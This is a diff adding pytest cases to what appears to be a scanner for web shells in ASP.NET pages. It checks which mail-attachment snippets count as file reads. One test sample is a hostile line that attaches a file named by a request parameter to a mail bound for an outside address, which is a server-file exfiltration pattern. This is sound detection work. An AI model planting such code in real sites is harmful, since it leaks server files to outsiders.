@@ -87,3 +87,32 @@ def test_a_fixed_recipient_added_beside_the_clients_message_is_quiet() -> None:
         'm.Body = Request.Form["msg"];\nnew SmtpClient().Send(m);'
     )
     assert_benign("contact.aspx", code)
+
+
+MAIL = 'var m = new System.Net.Mail.MailMessage("a@site.example", "out@far.example");\n'
+SEND = '\nnew System.Net.Mail.SmtpClient("smtp.site.example").Send(m);'
+
+
+def test_a_file_the_request_names_attached_to_a_mail_is_read() -> None:
+    # `new Attachment(path)` opens the file: a mailed copy of whatever the client names.
+    code = cs_page(MAIL + 'm.Attachments.Add(new System.Net.Mail.Attachment(Request["f"]));' + SEND)
+    assert_found("exfil.aspx", code, "EXH-WS-CODE-FILE-READ", ["request parameter 'f'", "new Attachment"])
+
+
+@pytest.mark.parametrize(
+    "attached",
+    [
+        "new System.Net.Mail.Attachment(Request.Files[0].InputStream, Request.Files[0].FileName)",
+        'new System.Net.Mail.Attachment(new System.IO.MemoryStream(System.Text.Encoding.UTF8.GetBytes(Request["t"])), "t.txt")',
+        'new System.Net.Mail.Attachment(Server.MapPath("~/docs/terms.pdf"))',
+    ],
+    ids=["upload-stream", "text-in-memory", "fixed-file"],
+)
+def test_attached_streams_and_fixed_files_are_not_reads(attached: str) -> None:
+    assert_benign("attach.aspx", cs_page(MAIL + f"m.Attachments.Add({attached});" + SEND))
+
+
+def test_an_upload_controls_content_attached_is_not_a_read() -> None:
+    code = cs_page(MAIL + "m.Attachments.Add(new System.Net.Mail.Attachment(Up.FileContent, Up.FileName));" + SEND)
+    code = code.replace('<script runat="server">', '<asp:FileUpload id="Up" runat="server" />\n<script runat="server">')
+    assert_benign("attach-control.aspx", code)
